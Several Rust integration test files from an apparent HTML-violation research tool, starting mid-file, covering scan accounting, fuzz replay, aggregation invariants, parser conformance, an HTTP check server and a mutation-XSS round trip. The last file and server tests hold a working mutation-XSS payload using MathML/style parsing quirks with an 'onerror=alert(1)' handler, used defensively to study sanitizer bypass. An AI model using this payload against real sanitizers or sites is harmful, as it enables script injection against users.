            assert!(compared > 0, "rate {rate} left no record fully clean — shrink the rate");
        }
    }
}

#[test]
fn heavy_fault_rate_still_accounts_for_every_page() {
    let archive = archive();
    let store = scan_at(&archive, 0.5, 4);

    // Per-record accounting: listed = analyzed + utf8-rejected + quarantined.
    // Records don't track the utf8 count separately, so the bound is the
    // residual pages_found leaves for it.
    for r in &store.records {
        assert!(
            r.pages_analyzed + r.pages_quarantined <= r.pages_found,
            "record {}@{:?} leaks pages",
            r.domain_id,
            r.snapshot
        );
    }

    // The audit trail reconciles with the counters, is canonically sorted,
    // and contains no parser panics (containment is for real bugs, not
    // injected faults).
    let counted: usize = store.records.iter().map(|r| r.pages_quarantined).sum();
    assert_eq!(store.quarantine.len(), counted);
    let mut sorted = store.quarantine.clone();
    sorted.sort_by_key(|q| (q.snapshot, q.domain_id, q.page_index));
    assert_eq!(store.quarantine, sorted, "quarantine persists in canonical order");
    assert!(store.quarantine.iter().all(|q| q.class != ErrorClass::ParserPanic));
}
