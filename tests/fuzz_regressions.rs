//! Replay every minimized fuzz reproducer forever.
//!
//! When `hva fuzz` finds an oracle violation it ddmin-minimizes the case
//! and writes it into `tests/fixtures/regressions/` (provenance — oracle,
//! seed, case index — lives in the filename). This harness replays each
//! fixture through the *full* oracle registry on every `cargo test` run,
//! so a fixed bug that resurfaces fails tier-1 immediately with the exact
//! input that caught it the first time. The suite passes when the
//! directory is empty: an empty regression set is the goal state, not an
//! error.

use std::path::PathBuf;

fn regressions_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/regressions")
}

fn fixture_paths() -> Vec<PathBuf> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(regressions_dir())
        .expect("regressions dir exists (it ships a README)")
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().and_then(|e| e.to_str()) == Some("html"))
        .collect();
    paths.sort();
    paths
}

/// Every checked-in reproducer passes every oracle — not just the one that
/// originally caught it; a fix that merely moves the bug between oracles
/// must not count as a fix.
#[test]
fn regression_fixtures_replay_clean() {
    let mut failures = Vec::new();
    for path in fixture_paths() {
        match html_violations::hv_fuzz::replay(&path, None) {
            Ok(violations) => {
                for (oracle, message) in violations {
                    failures.push(format!(
                        "{}: {oracle}: {message}",
                        path.file_name().unwrap().to_string_lossy()
                    ));
                }
            }
            Err(e) => failures.push(format!("{}: {e}", path.display())),
        }
    }
    assert!(
        failures.is_empty(),
        "{} regression fixture(s) fail again:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Replay is deterministic: two passes over the same fixture agree
/// violation-for-violation (the oracles carry no cross-case state).
#[test]
fn regression_replay_is_deterministic() {
    for path in fixture_paths() {
        let a = html_violations::hv_fuzz::replay(&path, None).expect("fixture readable");
        let b = html_violations::hv_fuzz::replay(&path, None).expect("fixture readable");
        assert_eq!(a, b, "replay of {} is not deterministic", path.display());
    }
}

/// A small all-oracle fuzz smoke inside tier-1: a pinned seed over a few
/// hundred generated cases must come back clean (deeper sweeps run in the
/// CI `fuzz-smoke` job and release gates). Failures here do NOT write
/// fixtures — reproduce with `hva fuzz --seed 4740657` and let the CLI
/// minimize and persist.
#[test]
fn fuzz_smoke_pinned_seed_is_clean() {
    let opts = html_violations::hv_fuzz::FuzzOptions::new(4_740_657, 300);
    let outcome = html_violations::hv_fuzz::fuzz(&opts).expect("fuzz runs");
    assert!(
        outcome.ok(),
        "pinned-seed smoke found {} violation(s): {:?}",
        outcome.failures.len(),
        outcome.failures
    );
    assert_eq!(outcome.cases_run, 300);
}
