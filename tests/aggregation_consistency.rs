#![allow(clippy::needless_range_loop)]

//! Internal-coherence invariants of the aggregation layer: relations that
//! must hold between the tables/figures regardless of corpus seed or scale
//! (the cross-checks a reviewer would run on the paper's own numbers).

use html_violations::prelude::*;
use std::sync::OnceLock;

fn store() -> &'static IndexedStore {
    static STORE: OnceLock<IndexedStore> = OnceLock::new();
    STORE.get_or_init(|| {
        let archive = Archive::new(CorpusConfig { seed: 2024, scale: 0.008 });
        IndexedStore::new(scan(&archive, ScanOptions::default()))
    })
}

#[test]
fn any_violation_bounds_every_kind_trend() {
    // P(any violation) ≥ P(specific violation), every year.
    let any = store().index.violating_domains_by_year();
    for kind in ViolationKind::ALL {
        let t = store().index.kind_trend(kind);
        for y in 0..8 {
            assert!(t[y] <= any[y] + 1e-9, "{kind} year {y}: {:.2} > any {:.2}", t[y], any[y]);
        }
    }
}

#[test]
fn group_trend_bounds_member_kinds_and_any_bounds_groups() {
    let any = store().index.violating_domains_by_year();
    let groups = store().index.group_trends();
    for (group, series) in &groups {
        for y in 0..8 {
            assert!(series[y] <= any[y] + 1e-9, "{group:?} year {y}");
        }
        for kind in ViolationKind::ALL.iter().filter(|k| k.group() == *group) {
            let t = store().index.kind_trend(*kind);
            for y in 0..8 {
                assert!(t[y] <= series[y] + 1e-9, "{kind} exceeds its group {group:?} in year {y}");
            }
        }
    }
}

#[test]
fn union_share_bounds_yearly_shares() {
    // Violating-ever ≥ violating in any single year (up to denominator
    // drift between analyzed-ever and analyzed-in-year; allow 2pp).
    let union = store().index.overall_violating_share();
    let yearly = store().index.violating_domains_by_year();
    for y in 0..8 {
        assert!(union + 2.0 >= yearly[y], "union {union:.1} < year {y} {:.1}", yearly[y]);
    }
}

#[test]
fn fig8_union_bounds_kind_years() {
    for bar in store().index.overall_distribution() {
        let trend = store().index.kind_trend(bar.kind);
        let max_year = trend.iter().cloned().fold(0.0, f64::max);
        assert!(
            bar.share + 2.0 >= max_year,
            "{}: union {:.2} < max yearly {:.2}",
            bar.kind,
            bar.share,
            max_year
        );
    }
}

#[test]
fn autofix_never_increases_violations() {
    for snap in Snapshot::ALL {
        let p = store().index.autofix_projection(snap);
        assert!(p.violating_after_fix <= p.violating, "{snap}");
        assert!(p.violating <= p.analyzed, "{snap}");
        assert!((0.0..=100.0).contains(&p.fixed_share), "{snap}");
    }
}

#[test]
fn rollout_stages_are_monotone_and_bounded_by_any() {
    let any = store().index.violating_domains_by_year();
    let rollout = store().index.rollout_breakage();
    for y in 0..8 {
        for w in rollout.windows(2) {
            assert!(w[1].1[y] + 1e-9 >= w[0].1[y], "stage regression in year {y}");
        }
        // Full enforcement = exactly the any-violation share.
        let full = rollout.last().unwrap().1[y];
        assert!((full - any[y]).abs() < 1e-9, "year {y}: full {full:.2} vs any {:.2}", any[y]);
    }
}

#[test]
fn mitigation_subset_relations() {
    let m = store().index.mitigation_trends();
    for y in 0..8 {
        // newline+'<' implies newline.
        assert!(m.newline_and_lt_in_url[y].0 <= m.newline_in_url[y].0, "year {y}");
        // nonced-script conflicts imply script-in-attribute.
        assert!(m.script_in_nonced_script[y] <= m.script_in_attribute[y].0, "year {y}");
    }
    // DE3_1's trend and the newline+'<' mitigation counter measure the
    // same phenomenon (modulo non-start-tag sources): close agreement.
    let de3_1 = store().index.kind_trend(ViolationKind::DE3_1);
    for y in 0..8 {
        assert!(
            (de3_1[y] - m.newline_and_lt_in_url[y].1).abs() < 0.8,
            "year {y}: DE3_1 {:.2} vs mitigation {:.2}",
            de3_1[y],
            m.newline_and_lt_in_url[y].1
        );
    }
}

#[test]
fn table2_columns_are_internally_consistent() {
    let rows = store().index.table2();
    let mut found_ever = 0usize;
    for row in &rows {
        assert!(row.domains_analyzed <= row.domains_found);
        assert!((0.0..=100.0).contains(&row.analyzed_share));
        assert!(row.avg_pages <= 100.0);
        found_ever = found_ever.max(row.domains_found);
    }
    let (found, analyzed) = store().index.table2_total();
    assert!(found >= found_ever, "total found must cover every year");
    assert!(analyzed <= found);
    assert!(found <= store().universe);
}

#[test]
fn math_usage_grows_and_stays_rare() {
    let usage = store().index.math_usage_by_year();
    assert!(usage[7] >= usage[0], "math usage must grow: {usage:?}");
    let rows = store().index.table2();
    // ~1% of analyzed domains in 2022.
    assert!(usage[7] <= rows[7].domains_analyzed / 20, "{usage:?}");
}

#[test]
fn page_counts_upper_bound_kinds() {
    // A kind recorded for a domain must have at least one carrying page.
    for r in &store().records {
        for k in &r.kinds {
            let pages = r.page_counts.get(k).copied().unwrap_or(0);
            assert!(pages >= 1, "{k} recorded without pages on {}", r.domain_name);
            assert!(pages as usize <= r.pages_analyzed);
        }
    }
}
