//! Tree-construction conformance cases in the style of the html5lib test
//! suite: input markup → expected serialized body, covering the recovery
//! behaviours the violation checkers depend on.
//!
//! Expected values were derived from the WHATWG algorithm (and
//! cross-checked against browser `innerHTML` behaviour where the spec
//! leaves room).

use html_violations::prelude::*;
use html_violations::spec_html::serializer;

/// Parse and serialize the body's children (innerHTML).
fn body_of(input: &str) -> String {
    let doc = parse_document(input);
    let body = doc.dom.find_html("body").expect("body");
    serializer::serialize_children(&doc.dom, body)
}

macro_rules! cases {
    ($( $name:ident : $input:expr => $expected:expr ; )+) => {
        $(
            #[test]
            fn $name() {
                assert_eq!(body_of($input), $expected, "input: {}", $input);
            }
        )+
    };
}

cases! {
    // --- implied end tags ---
    implied_p: "<p>a<p>b" => "<p>a</p><p>b</p>";
    implied_li: "<ul><li>a<li>b</ul>" => "<ul><li>a</li><li>b</li></ul>";
    implied_dt_dd: "<dl><dt>a<dd>b</dl>" => "<dl><dt>a</dt><dd>b</dd></dl>";
    implied_option: "<select><option>a<option>b</select>"
        => "<select><option>a</option><option>b</option></select>";
    p_closed_by_div: "<p>a<div>b</div>" => "<p>a</p><div>b</div>";
    p_not_closed_by_span: "<p>a<span>b</span>" => "<p>a<span>b</span></p>";
    heading_closes_p: "<p>a<h1>b</h1>" => "<p>a</p><h1>b</h1>";
    heading_pops_heading: "<h1>a<h2>b</h2>" => "<h1>a</h1><h2>b</h2>";

    // --- formatting / adoption agency ---
    b_i_misnest: "<b>1<i>2</b>3</i>" => "<b>1<i>2</i></b><i>3</i>";
    reconstruct_after_p: "<p><b>x<p>y" => "<p><b>x</b></p><p><b>y</b></p>";
    nested_a_splits: "<a>1<a>2</a>" => "<a>1</a><a>2</a>";
    // A well-nested block inside formatting stays nested (no adoption
    // agency without misnesting).
    em_across_block: "<em>a<div>b</div>c</em>" => "<em>a<div>b</div>c</em>";
    // Misnesting does split: the </em> inside the div triggers adoption.
    em_misnested_block: "<em>a<div>b</em>c</div>" => "<em>a</em><div><em>b</em>c</div>";
    font_preserved: "<font color=red>x</font>" => "<font color=\"red\">x</font>";

    // --- tables / foster parenting ---
    table_text_fostered: "<table>text<tr><td>x</td></tr></table>"
        => "text<table><tbody><tr><td>x</td></tr></tbody></table>";
    table_element_fostered: "<table><div>d</div><tr><td>x</td></tr></table>"
        => "<div>d</div><table><tbody><tr><td>x</td></tr></tbody></table>";
    implied_tbody: "<table><tr><td>x</td></tr></table>"
        => "<table><tbody><tr><td>x</td></tr></tbody></table>";
    implied_tr_cell_close: "<table><tr><td>a<td>b</table>"
        => "<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>";
    caption_kept: "<table><caption>c</caption><tr><td>x</td></tr></table>"
        => "<table><caption>c</caption><tbody><tr><td>x</td></tr></tbody></table>";
    colgroup_and_col: "<table><colgroup><col><col></colgroup><tr><td>x</td></tr></table>"
        => "<table><colgroup><col><col></colgroup><tbody><tr><td>x</td></tr></tbody></table>";
    bare_col_implies_colgroup: "<table><col><tr><td>x</td></tr></table>"
        => "<table><colgroup><col></colgroup><tbody><tr><td>x</td></tr></tbody></table>";
    nested_table_closes: "<table><tr><td>a<table><tr><td>b</td></tr></table></td></tr></table>"
        => "<table><tbody><tr><td>a<table><tbody><tr><td>b</td></tr></tbody></table></td></tr></tbody></table>";
    input_hidden_stays_in_table: "<table><input type=hidden><tr><td>x</td></tr></table>"
        => "<table><input type=\"hidden\"><tbody><tr><td>x</td></tr></tbody></table>";
    input_text_fostered: "<table><input type=text><tr><td>x</td></tr></table>"
        => "<input type=\"text\"><table><tbody><tr><td>x</td></tr></tbody></table>";
    thead_tfoot: "<table><thead><tr><th>h</th></tr><tbody><tr><td>b</td></tr><tfoot><tr><td>f</td></tr></table>"
        => "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>b</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>";

    // --- select ---
    select_strips_div: "<select><div>x</div><option>a</option></select>"
        => "<select>x<option>a</option></select>";
    select_inner_select_closes: "<select><option>a<select><option>b"
        => "<select><option>a</option></select><option>b</option>";
    optgroup_closes_option: "<select><option>a<optgroup label=g><option>b</select>"
        => "<select><option>a</option><optgroup label=\"g\"><option>b</option></optgroup></select>";

    // --- void elements / self-closing ---
    void_elements: "<br><img src=x><hr>" => "<br><img src=\"x\"><hr>";
    self_closing_div_ignored: "<div/>text" => "<div>text</div>";
    end_br_becomes_br: "a</br>b" => "a<br>b";

    // --- foreign content ---
    svg_roundtrip: "<svg viewBox=\"0 0 1 1\"><circle r=\"1\"></circle></svg>"
        => "<svg viewBox=\"0 0 1 1\"><circle r=\"1\"></circle></svg>";
    svg_self_closing: "<svg><path d=\"M0 0\"/></svg>x"
        => "<svg><path d=\"M0 0\"></path></svg>x";
    svg_breakout: "<svg><rect></rect><p>out</p>" => "<svg><rect></rect></svg><p>out</p>";
    math_mtext_html: "<math><mtext><b>x</b></mtext></math>"
        => "<math><mtext><b>x</b></mtext></math>";
    foreign_object_html: "<svg><foreignobject><div>d</div></foreignobject></svg>"
        => "<svg><foreignObject><div>d</div></foreignObject></svg>";
    math_img_breakout: "<math><mrow><img src=x></mrow></math>"
        => "<math><mrow></mrow></math><img src=\"x\">";
    font_with_color_breaks_out: "<svg><font color=red>x</font></svg>"
        => "<svg></svg><font color=\"red\">x</font>";
    font_plain_stays_foreign: "<svg><font>x</font></svg>"
        => "<svg><font>x</font></svg>";

    // --- raw text models ---
    // (Bare leading <script>/<style> would land in the implied head, so
    // these anchor themselves in the body first.)
    script_keeps_markup: "<body>x<script>var x = '<div>';</script>after"
        => "x<script>var x = '<div>';</script>after";
    style_keeps_markup: "<body>x<style>a > b {}</style>y" => "x<style>a > b {}</style>y";
    textarea_entity_decoded: "<textarea>&amp;</textarea>" => "<textarea>&amp;</textarea>";
    xmp_raw: "<xmp><b>not bold</b></xmp>" => "<xmp><b>not bold</b></xmp>";

    // --- misc error recovery ---
    stray_end_tags_dropped: "a</div></span>b" => "ab";
    unclosed_elements_at_eof: "<div><span>x" => "<div><span>x</span></div>";
    comment_preserved: "a<!-- c -->b" => "a<!-- c -->b";
    null_dropped_in_body: "a\0b" => "ab";
    button_closes_button: "<button>a<button>b</button>" => "<button>a</button><button>b</button>";
    nobr_reopens: "<nobr>a<nobr>b</nobr>" => "<nobr>a</nobr><nobr>b</nobr>";
    plaintext_swallows: "<plaintext><div>" => "<plaintext><div></plaintext>";
}

#[test]
fn doctype_quirks_modes() {
    use html_violations::spec_html::tree_builder::QuirksMode;
    let cases = [
        ("<!DOCTYPE html><p>x", QuirksMode::NoQuirks),
        ("<p>x", QuirksMode::Quirks),
        ("<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\"><p>x", QuirksMode::Quirks),
        (
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\"><p>x",
            QuirksMode::LimitedQuirks,
        ),
    ];
    for (input, expected) in cases {
        assert_eq!(parse_document(input).quirks, expected, "{input}");
    }
}

#[test]
fn quirks_mode_table_in_p() {
    // In quirks mode, <table> does NOT close an open <p>.
    let quirks = body_of("<p>a<table><tr><td>x</td></tr></table>");
    assert_eq!(quirks, "<p>a<table><tbody><tr><td>x</td></tr></tbody></table></p>");
    let standards = {
        let doc = parse_document("<!DOCTYPE html><p>a<table><tr><td>x</td></tr></table>");
        let body = doc.dom.find_html("body").unwrap();
        serializer::serialize_children(&doc.dom, body)
    };
    assert_eq!(standards, "<p>a</p><table><tbody><tr><td>x</td></tr></tbody></table>");
}

#[test]
fn whole_document_structure() {
    let doc = parse_document(
        "<!DOCTYPE html><html lang=en><head><title>t</title></head><body>x</body></html>",
    );
    let whole = serializer::serialize(&doc.dom);
    assert_eq!(
        whole,
        "<!DOCTYPE html><html lang=\"en\"><head><title>t</title></head><body>x</body></html>"
    );
}
