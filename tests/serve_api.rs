//! Integration: the `hva serve` HTTP layer over real TCP.
//!
//! The contract under test is the ISSUE's acceptance list: concurrent
//! clients get byte-identical findings to the in-process `Battery` path
//! (what `hva check` runs), saturation answers 503 with `Retry-After`
//! instead of dropping connections, an oversized body is refused with 413
//! before the server reads it, a malformed request line gets 400, graceful
//! shutdown finishes in-flight requests, and the deprecated one-shot shims
//! still agree with the supported `Battery` methods.

use html_violations::hv_core::CheckContext;
use html_violations::prelude::*;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(10);

/// Minimal HTTP/1.1 client: one request on a fresh connection,
/// `Connection: close`, returns (status line, lowercased header block, body).
fn roundtrip(addr: &str, raw_head_and_body: &[u8]) -> (String, String, String) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream.set_read_timeout(Some(TIMEOUT)).unwrap();
    stream.set_write_timeout(Some(TIMEOUT)).unwrap();
    stream.write_all(raw_head_and_body).expect("write request");
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).expect("read response");
    let text = String::from_utf8_lossy(&raw).into_owned();
    let head_end = text.find("\r\n\r\n").expect("response head");
    let (head, body) = text.split_at(head_end);
    let status = head.lines().next().unwrap_or("").to_string();
    (status, head.to_ascii_lowercase(), body[4..].to_string())
}

fn post(addr: &str, path: &str, content_type: &str, body: &[u8]) -> (String, String, String) {
    let mut req = format!(
        "POST {path} HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\
         content-type: {content_type}\r\ncontent-length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    roundtrip(addr, &req)
}

fn start(opts: ServeOptions) -> (hv_server::Server, String) {
    let server = serve(opts).expect("server starts");
    let addr = server.addr().to_string();
    (server, addr)
}

/// What `hva check` computes for a page, serialized exactly as the server
/// serializes it.
fn expected_check_json(page: &str) -> String {
    let report = Battery::full().run_str(page);
    serde_json::to_string(&CheckResponse::from(&report)).expect("serialize")
}

#[test]
fn concurrent_clients_get_byte_identical_findings() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(3).queue_depth(32));

    let pages: Vec<String> = vec![
        r#"<img src="logo.png"onerror="alert(1)">"#.into(),
        "<!DOCTYPE html><html><head><title>t</title></head><body>\
         <img src=a src=b><table><tr><b>x</b></tr></table></body></html>"
            .into(),
        "<p>perfectly clean paragraph</p>".into(),
        concat!(
            "<math><mtext><table><mglyph><style><!--</style>",
            "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
        )
        .into(),
    ];

    std::thread::scope(|scope| {
        for client in 0..4 {
            let addr = &addr;
            let pages = &pages;
            scope.spawn(move || {
                for (i, page) in pages.iter().enumerate() {
                    let expected = expected_check_json(page);
                    // Alternate raw-HTML and JSON-envelope request shapes.
                    let (status, _, body) = if (client + i) % 2 == 0 {
                        post(addr, "/v1/check", "text/html", page.as_bytes())
                    } else {
                        let req =
                            serde_json::to_string(&CheckRequest { html: page.clone() }).unwrap();
                        post(addr, "/v1/check", "application/json", req.as_bytes())
                    };
                    assert!(status.contains("200"), "client {client} page {i}: {status}");
                    assert_eq!(body, expected, "client {client} page {i} response diverged");
                }
            });
        }
    });

    server.shutdown();
}

#[test]
fn saturation_sheds_with_retry_after() {
    // One worker, one queue slot. Park the worker on a half-sent request,
    // fill the single slot, and every further connection must be shed.
    let (server, addr) = start(
        ServeOptions::new()
            .addr("127.0.0.1:0")
            .threads(1)
            .queue_depth(1)
            .read_timeout(Duration::from_secs(2)),
    );

    // Occupy the only worker: a connection with an unfinished request
    // head blocks it in `read_request` until the 2s read timeout.
    let mut parked = TcpStream::connect(&addr).expect("connect");
    parked.write_all(b"POST /v1/check HTTP/1.1\r\nhost: t\r\n").expect("partial write");
    std::thread::sleep(Duration::from_millis(100));

    // Flood with *concurrent* clients (a sequential flood would wait for
    // each answer and never fill the 1-deep queue). One of them lands in
    // the queue slot and is served once the worker frees up; the rest must
    // be answered 503 + Retry-After — never dropped.
    let results: Vec<(String, String, String)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..12)
            .map(|_| {
                let addr = &addr;
                scope.spawn(move || post(addr, "/v1/check", "text/html", b"<p>x</p>"))
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("flood client answered")).collect()
    });
    let mut shed = 0;
    for (status, head, body) in &results {
        assert!(
            status.contains("200") || status.contains("503"),
            "expected 200 or 503 under saturation, got {status}"
        );
        if status.contains("503") {
            assert!(head.contains("retry-after:"), "503 without retry-after:\n{head}");
            assert!(body.contains("shedding_load"), "unexpected shed body: {body}");
            shed += 1;
        }
    }
    assert!(shed > 0, "concurrent flood of 12 against a full 1-deep queue never shed");

    drop(parked);
    server.shutdown();
}

#[test]
fn oversized_body_is_refused_with_413() {
    let (server, addr) =
        start(ServeOptions::new().addr("127.0.0.1:0").threads(1).queue_depth(4).max_body(1024));

    let big = "x".repeat(10_000);
    let (status, _, body) = post(&addr, "/v1/check", "text/html", big.as_bytes());
    assert!(status.contains("413"), "oversized body: {status}");
    assert!(body.contains("body_too_large"), "unexpected 413 body: {body}");

    // A body within budget still works.
    let (status, _, _) = post(&addr, "/v1/check", "text/html", b"<p>ok</p>");
    assert!(status.contains("200"), "in-budget body after a 413: {status}");

    server.shutdown();
}

#[test]
fn malformed_request_line_gets_400() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(1).queue_depth(4));

    let (status, _, body) = roundtrip(&addr, b"THIS IS NOT HTTP\r\n\r\n");
    assert!(status.contains("400"), "garbage request line: {status}");
    assert!(body.contains("bad_request"), "unexpected 400 body: {body}");

    server.shutdown();
}

#[test]
fn graceful_shutdown_finishes_in_flight_requests() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(2).queue_depth(8));

    // A stream of requests racing the shutdown below. Requests arriving
    // after the listener closed fail to connect or read — the client stops
    // there; everything that *was* accepted must be answered in full.
    let addr2 = addr.clone();
    let clients = std::thread::spawn(move || {
        let mut statuses = Vec::new();
        for _ in 0..6 {
            let outcome = std::panic::catch_unwind(|| {
                post(&addr2, "/v1/check", "text/html", br#"<img src=a src=b>"#)
            });
            match outcome {
                Ok((status, _, body)) => statuses.push((status, body)),
                Err(_) => break, // server gone: connect/read refused, not truncated
            }
        }
        statuses
    });

    std::thread::sleep(Duration::from_millis(100));
    server.shutdown();

    let statuses = clients.join().expect("client thread");
    assert!(!statuses.is_empty(), "not even one request completed before shutdown");
    for (status, body) in &statuses {
        assert!(status.contains("200"), "in-flight request not completed: {status}");
        assert!(body.contains("DM3"), "truncated response body: {body}");
    }
}

#[test]
fn healthz_and_metricsz_respond() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(1).queue_depth(4));

    let (status, _, _) = post(&addr, "/v1/check", "text/html", b"<p>x</p>");
    assert!(status.contains("200"));

    let (status, _, body) = roundtrip(&addr, b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n");
    assert!(status.contains("200"), "healthz: {status}");
    assert!(body.contains("ok"), "healthz body: {body}");

    let (status, _, body) = roundtrip(&addr, b"GET /metricsz HTTP/1.1\r\nhost: t\r\n\r\n");
    assert!(status.contains("200"), "metricsz: {status}");
    assert!(body.contains("\"served\""), "metricsz body: {body}");
    assert!(body.contains("POST /v1/check"), "metricsz missing per-route stats: {body}");

    server.shutdown();
}

/// The deprecated one-shot shims must stay behaviourally identical to the
/// supported `Battery` methods for as long as they live.
#[test]
#[allow(deprecated)]
fn deprecated_shims_agree_with_battery_methods() {
    let page = r#"<img src="logo.png"onerror="alert(1)"><table><tr><b>x</b></tr></table>"#;
    let mut battery = Battery::full();

    let via_shim = check_page(page);
    let via_battery = battery.run_str(page);
    assert_eq!(via_shim.findings, via_battery.findings);
    assert_eq!(via_shim.mitigations, via_battery.mitigations);

    let via_shim = html_violations::hv_core::checkers::check_fragment(page);
    let via_battery = battery.run_fragment(page, "div");
    assert_eq!(via_shim.findings, via_battery.findings);

    let cx = CheckContext::new(page);
    let via_shim = html_violations::hv_core::checkers::check_context(&cx);
    let via_battery = battery.run(&cx);
    assert_eq!(via_shim.findings, via_battery.findings);
    assert_eq!(via_shim.mitigations, via_battery.mitigations);
}

/// Read exactly `n` responses off one keep-alive connection, splitting on
/// each response's own `Content-Length`.
fn read_responses(stream: &mut TcpStream, n: usize) -> Vec<(String, String)> {
    let mut raw = Vec::new();
    let mut buf = [0u8; 4096];
    let mut out = Vec::new();
    while out.len() < n {
        let head_end = loop {
            if let Some(pos) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
                break pos;
            }
            let got = stream.read(&mut buf).expect("read response");
            assert!(got > 0, "server closed before all pipelined responses arrived");
            raw.extend_from_slice(&buf[..got]);
        };
        let head = String::from_utf8_lossy(&raw[..head_end]).to_ascii_lowercase();
        let len: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .expect("content-length header")
            .trim()
            .parse()
            .expect("numeric content-length");
        while raw.len() < head_end + 4 + len {
            let got = stream.read(&mut buf).expect("read body");
            assert!(got > 0, "server closed mid-body");
            raw.extend_from_slice(&buf[..got]);
        }
        let rest = raw.split_off(head_end + 4 + len);
        let body = String::from_utf8_lossy(&raw[head_end + 4..]).into_owned();
        let status = head.lines().next().unwrap_or("").to_owned();
        out.push((status, body));
        raw = rest;
    }
    out
}

/// A pipelining client: several requests written in one burst on a single
/// keep-alive connection must each get their own correct response, in
/// order — bytes read past one request's body seed the next parse instead
/// of being dropped.
#[test]
fn pipelined_keep_alive_requests_are_all_answered() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(1));
    let pages = ["<p>first", "<div id=a id=a>second</div>", "<table><tr><b>third"];

    let mut burst = Vec::new();
    for (i, page) in pages.iter().enumerate() {
        let connection = if i + 1 == pages.len() { "close" } else { "keep-alive" };
        burst.extend_from_slice(
            format!(
                "POST /v1/check HTTP/1.1\r\nhost: t\r\nconnection: {connection}\r\n\
                 content-type: text/html\r\ncontent-length: {}\r\n\r\n{page}",
                page.len()
            )
            .as_bytes(),
        );
    }

    let mut stream = TcpStream::connect(&addr).expect("connect");
    stream.set_read_timeout(Some(TIMEOUT)).unwrap();
    stream.write_all(&burst).expect("write pipelined burst");
    let responses = read_responses(&mut stream, pages.len());
    for ((status, body), page) in responses.iter().zip(&pages) {
        assert!(status.contains("200"), "pipelined response: {status}");
        assert_eq!(body, &expected_check_json(page), "response out of order for {page:?}");
    }
    server.shutdown();
}

/// A POST with `Content-Length: 0` is a complete, valid request: the empty
/// page must be checked (not hang waiting for body bytes, not 400).
#[test]
fn content_length_zero_post_checks_the_empty_page() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(1));
    let (status, _, body) = post(&addr, "/v1/check", "text/html", b"");
    assert!(status.contains("200"), "empty POST: {status}");
    assert_eq!(body, expected_check_json(""));
    server.shutdown();
}

/// Header names are case-insensitive (RFC 9110 §5.1): a client shouting
/// `CONTENT-LENGTH` must parse the same as one whispering it.
#[test]
fn header_names_are_case_insensitive() {
    let (server, addr) = start(ServeOptions::new().addr("127.0.0.1:0").threads(1));
    let page = "<p>hi";
    let req = format!(
        "POST /v1/check HTTP/1.1\r\nHOST: t\r\nCONNECTION: CLOSE\r\n\
         Content-TYPE: TEXT/HTML\r\nCONTENT-Length: {}\r\n\r\n{page}",
        page.len()
    );
    let (status, _, body) = roundtrip(&addr, req.as_bytes());
    assert!(status.contains("200"), "mixed-case headers: {status}");
    assert_eq!(body, expected_check_json(page));
    server.shutdown();
}
