//! Integration: the Figure-1 mutation-XSS round trip across parser,
//! serializer and checkers — the experiment DESIGN.md's index points here.

use html_violations::prelude::*;
use html_violations::spec_html::{serializer, Namespace};

const PAYLOAD: &str = concat!(
    "<math><mtext><table><mglyph><style><!--</style>",
    "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
);

/// One sanitizer pass: parse, serialize the body contents (innerHTML).
fn sanitize_pass(input: &str) -> String {
    let doc = parse_document(input);
    let body = doc.dom.find_html("body").expect("body");
    serializer::serialize_children(&doc.dom, body)
}

#[test]
fn first_parse_keeps_payload_inert() {
    let doc = parse_document(PAYLOAD);
    // After the first parse the alert lives only inside a title attribute;
    // no img carries an onerror handler.
    let live = doc
        .dom
        .all_elements()
        .filter(|&id| {
            let e = doc.dom.element(id).unwrap();
            e.name == "img" && e.has_attr("onerror")
        })
        .count();
    assert_eq!(live, 0, "payload must be inert on first parse");
}

#[test]
fn serialization_mutates_the_payload() {
    let out = sanitize_pass(PAYLOAD);
    // Mutation 1: entity decoding in the attribute.
    assert!(out.contains("--><img src=1 onerror=alert(1)>"), "{out}");
    // Mutation 2: table content reordering.
    let mglyph = out.find("<mglyph>").expect("mglyph");
    let table = out.find("<table>").expect("table");
    assert!(mglyph < table, "{out}");
}

#[test]
fn second_parse_arms_the_payload() {
    let mutated = sanitize_pass(PAYLOAD);
    let doc = parse_document(&mutated);
    // Now an <img onerror=alert(1)> exists in the tree: XSS.
    let live = doc
        .dom
        .all_elements()
        .filter(|&id| {
            let e = doc.dom.element(id).unwrap();
            e.name == "img" && e.attr("onerror") == Some("alert(1)")
        })
        .count();
    assert!(live >= 1, "payload must be armed after the round trip:\n{mutated}");
}

#[test]
fn style_is_foreign_inside_math() {
    // The root cause: in MathML the <style> content is markup, not CSS
    // text, so its `<!--` opens a real comment on the second parse.
    let doc = parse_document("<math><mglyph><style><!--</style>x");
    let style = doc
        .dom
        .all_elements()
        .find(|&id| doc.dom.element(id).unwrap().name == "style")
